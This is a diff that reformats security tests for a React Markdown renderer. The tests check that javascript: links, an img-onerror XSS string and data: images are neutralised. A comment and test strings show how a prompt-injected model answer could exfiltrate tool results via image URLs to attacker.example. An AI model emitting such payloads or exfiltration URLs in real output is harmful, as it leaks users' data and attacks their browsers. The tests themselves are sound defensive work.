@@ -2,7 +2,13 @@ import { renderToStaticMarkup } from "react-dom/server";
 import { Markdown } from "./markdown";
 
 it("renders code fences with their language, headings, lists, quotes and tables", () => {
-  const html = renderToStaticMarkup(<Markdown text={"# Title\n\nSome *text*\n\n- a\n- b\n\n```ts\nconst x = 1;\n```\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |"} />);
+  const html = renderToStaticMarkup(
+    <Markdown
+      text={
+        "# Title\n\nSome *text*\n\n- a\n- b\n\n```ts\nconst x = 1;\n```\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |"
+      }
+    />,
+  );
   expect(html).toContain("<h3");
   expect(html).toContain("<em>text</em>");
   expect(html).toMatch(/<ul[^>]*>\s*<li>a<\/li>/);
@@ -13,7 +19,9 @@ it("renders code fences with their language, headings, lists, quotes and tables"
 });
 
 it("renders inline markup as elements and never passes HTML or unsafe links through", () => {
-  const html = renderToStaticMarkup(<Markdown text={'**bold** `code` [ok](/image-gen/x) [bad](javascript:alert(1)) <img src=x onerror=alert(1)>'} />);
+  const html = renderToStaticMarkup(
+    <Markdown text={"**bold** `code` [ok](/image-gen/x) [bad](javascript:alert(1)) <img src=x onerror=alert(1)>"} />,
+  );
   expect(html).toContain("<strong>bold</strong>");
   expect(html).toContain("<code");
   expect(html).toContain('href="/image-gen/x"');
@@ -25,16 +33,24 @@ it("shows a Markdown image from model output as a link, never as an <img> the br
   // A prompt-injected answer could put tool results into an image URL: an
   // <img> would send them to that host as soon as the answer renders.
   const html = renderToStaticMarkup(
-    <Markdown text={"Done ![secret report](https://attacker.example/p.png?d=uid-123) and ![][ref]\n\n[ref]: https://attacker.example/r.gif?d=2"} />,
+    <Markdown
+      text={
+        "Done ![secret report](https://attacker.example/p.png?d=uid-123) and ![][ref]\n\n[ref]: https://attacker.example/r.gif?d=2"
+      }
+    />,
   );
   expect(html).not.toContain("<img");
   expect(html).toContain('href="https://attacker.example/p.png?d=uid-123"');
   expect(html).toContain('href="https://attacker.example/r.gif?d=2"');
-  expect(html).toMatch(/<a [^>]*href="https:\/\/attacker\.example\/p\.png\?d=uid-123"[^>]*>[^<]*secret report[^<]*\(attacker\.example\)<\/a>/);
+  expect(html).toMatch(
+    /<a [^>]*href="https:\/\/attacker\.example\/p\.png\?d=uid-123"[^>]*>[^<]*secret report[^<]*\(attacker\.example\)<\/a>/,
+  );
 });
 
 it("drops an image whose address is not http(s) or an app path, keeping its description as text", () => {
-  const html = renderToStaticMarkup(<Markdown text={"![chart](javascript:alert(1)) ![pixel](data:image/png;base64,AAAA)"} />);
+  const html = renderToStaticMarkup(
+    <Markdown text={"![chart](javascript:alert(1)) ![pixel](data:image/png;base64,AAAA)"} />,
+  );
   expect(html).not.toContain("<img");
   expect(html).not.toContain("javascript:");
   expect(html).not.toContain("data:");
